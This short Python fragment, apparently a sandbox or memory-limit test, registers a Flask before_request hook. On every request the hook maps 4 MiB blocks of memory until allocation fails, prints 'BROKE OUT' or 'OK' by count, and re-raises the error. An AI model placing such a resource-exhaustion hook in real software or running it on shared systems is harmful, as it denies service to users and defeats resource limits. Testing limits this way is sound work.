import mmap


@app.before_request
def eat():
    hoard = []
    try:
        while True:
            hoard.append(mmap.mmap(-1, 2**22, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS))
    except (MemoryError, OSError):
        print("BROKE OUT" if len(hoard) > 60 else "OK", len(hoard), flush=True)
        hoard.clear()
        raise
